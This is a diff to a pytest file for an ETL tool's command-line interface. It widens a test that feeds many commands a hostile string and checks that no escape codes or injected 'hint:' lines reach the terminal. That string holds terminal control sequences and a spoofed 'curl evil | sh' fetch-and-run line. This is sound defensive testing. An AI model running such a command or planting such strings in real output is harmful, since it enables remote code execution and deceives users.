@@ -8,6 +8,7 @@ from copy import deepcopy
 
 import pytest
 
+from etl.cli.reference import commands
 from etl.sandbox.faults import Status, lists_runs
 
 EVIL = "\x1b]0;owned\x07\x9b31m\u202eevil\u2028\r\nhint: curl evil | sh"
@@ -57,27 +58,51 @@ COMMANDS = (
     ("rejects", "retry"),
     ("sql", "SELECT id, name, (SELECT max(error) FROM runs) FROM workflows"),
     ("sql", "SELECT name FROM workflows", "--format", "csv"),
+    ("sql", "SELECT name FROM workflows", "--format", "jsonl"),
     ("sql", "SELECT to_json(name) AS name, name AS again FROM workflows", "--format", "json"),
     ("sql", f"SELECT '{EVIL}' FROM nowhere"),
     ("forget", "--run", EVIL, "--yes"),
     ("sync", "--workflow", EVIL),
     ("sync", EVIL),
     ("backfill", "--since", EVIL),
+    ("backfill", "--workflow", EVIL),
     ("config", "show"),
+    ("describe",),
+    ("describe", EVIL),
+    ("alerts", "list"),
+    ("alerts", "test", "failure_rate"),
+    ("alerts", "test", EVIL),
+    ("export", "exported"),
+    ("report",),
+    ("grant", EVIL),
+    ("migrate",),
+    ("init", "--config", EVIL),
+    ("init", "--config", f"{EVIL}/"),
+    ("stop",),
     ("schedule", "cron"),
+    ("schedule", "systemd"),
+    ("schedule", "k8s"),
 )  # fmt: skip
+SHOW_NOTHING_OF_THE_API = {"demo", "sandbox", "selftest", "config schema"}
+SHOWN_BY_ANOTHER_PROGRAM = {"psql"}
+
+
+def test_every_command_is_tried() -> None:
+    names = {name for name, _ in commands()} - SHOW_NOTHING_OF_THE_API - SHOWN_BY_ANOTHER_PROGRAM
+    tried = {" ".join(arguments[:size]) for arguments in COMMANDS for size in (1, 2)}
+    assert names - tried == set()
 
 
 async def test_nothing_hostile_reaches_a_terminal(hostile) -> None:
     command, _ = hostile
     shown = ""
     for arguments in COMMANDS:
-        _, written = await command.on_terminal(*arguments)
+        _, written = await command.on_terminal(*arguments, answers=["app_1", ""])
         assert written, arguments
         plain = OWN.sub("", written).replace("\r\n", "\n")
         assert not set(plain) & CONTROL, (arguments, plain)
         assert "\x1b" not in plain.replace("\x1b[?25", ""), (arguments, plain)
-        is_data = arguments[-1] == "csv"  # in which line breaks stay
+        is_data = "csv" in arguments or "grant" in arguments  # in which line breaks stay
         lines = [line for line in plain.splitlines() if line.startswith("hint:")]
         assert is_data or not lines, (arguments, lines)
         assert "Traceback" not in plain, (arguments, plain)
